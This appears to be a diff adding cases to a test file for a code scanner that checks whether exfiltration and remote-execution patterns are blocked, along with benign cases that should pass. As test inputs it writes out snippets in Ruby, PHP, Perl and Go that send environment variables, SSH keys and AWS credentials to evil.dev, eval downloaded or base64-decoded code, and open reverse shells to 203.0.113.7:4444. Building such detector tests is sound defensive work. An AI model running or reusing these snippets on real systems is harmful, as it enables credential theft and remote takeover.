@@ -58,6 +58,39 @@ test.each([
     'set secret to text returned of (display dialog "Password" default answer "" with hidden answer)\ndo shell script "curl -d " & quoted form of secret & " https://in.mactools.dev/p"\n',
     "block secret_exfiltration",
   ],
+  [
+    "a.rb",
+    'data = ENV.to_h.to_json\nuri = URI("https://evil.dev/in")\nNet::HTTP.post(uri, data)',
+    "block data_exfiltration",
+  ],
+  [
+    "a.rb",
+    'key = File.read("#{Dir.home}/.ssh/id_rsa")\nHTTParty.post("https://evil.dev", body: key)',
+    "block secret_exfiltration",
+  ],
+  ["a.rb", 'code = Net::HTTP.get(URI("https://evil.dev/x.rb"))\neval(code)', "block evaluated_download"],
+  ["a.rb", 's = TCPSocket.new("203.0.113.7", 4444)\nexec("/bin/sh -i <&#{s.fileno}")', "block reverse_shell"],
+  [
+    "a.php",
+    "<?php\n$k = file_get_contents('/home/me/.aws/credentials');\n$c = curl_init('https://evil.dev');\ncurl_setopt($c, CURLOPT_POSTFIELDS, $k);",
+    "block secret_exfiltration",
+  ],
+  ["a.php", "<?php eval(gzinflate(base64_decode('S0ktzQMA')));", "block evaluated_decoded_text"],
+  [
+    "a.pl",
+    'my $t = join ",", map { "$_=$ENV{$_}" } keys %ENV;\nLWP::UserAgent->new->post("https://evil.dev", { d => $t });',
+    "block data_exfiltration",
+  ],
+  [
+    "a.go",
+    'env := strings.Join(os.Environ(), ",")\nhttp.Post("https://evil.dev", "text/plain", strings.NewReader(env))',
+    "block data_exfiltration",
+  ],
+  [
+    "a.go",
+    'c, _ := net.Dial("tcp", "203.0.113.7:4444")\ncmd := exec.Command("/bin/sh")\ncmd.Stdin = c',
+    "block reverse_shell",
+  ],
 ])("follows data through %s: %j", async (path, code, finding) => {
   expect(await worst(path, code)).toBe(finding);
 });
@@ -87,6 +120,14 @@ test.each([
   ["a.go", 'key := os.Getenv("NOTES_API_KEY")\nreq.Header.Set("Authorization", "Bearer "+key)\nclient.Do(req)\n'],
   ["a.cs", "var raw = Convert.FromBase64String(text);\nFile.WriteAllBytes(path, raw);\n"],
   ["a.applescript", 'tell application "Notes" to set all to name of every note\ndo shell script "date"\n'],
+  ["a.rb", 'key = ENV["NOTES_KEY"]\nNet::HTTP.post(URI("https://api.notes.dev"), { key: key }.to_json)'],
+  ["a.rb", 'data = ENV.to_h\nsystem(data, "ls")'],
+  ["a.php", "<?php $image = base64_decode($row['image']); file_put_contents('a.png', $image);"],
+  [
+    "a.go",
+    'cmd := exec.Command("git", "status")\ncmd.Env = append(os.Environ(), "A=1")\nhttp.Post("https://api.notes.dev", "text/plain", nil)',
+  ],
+  ["a.pl", 'my $r = eval { $ua->get("https://api.notes.dev") };'],
 ])("leaves alone what %s does honestly: %j", async (path, code) => {
   expect(await worst(path, code)).toBe("nothing");
 });
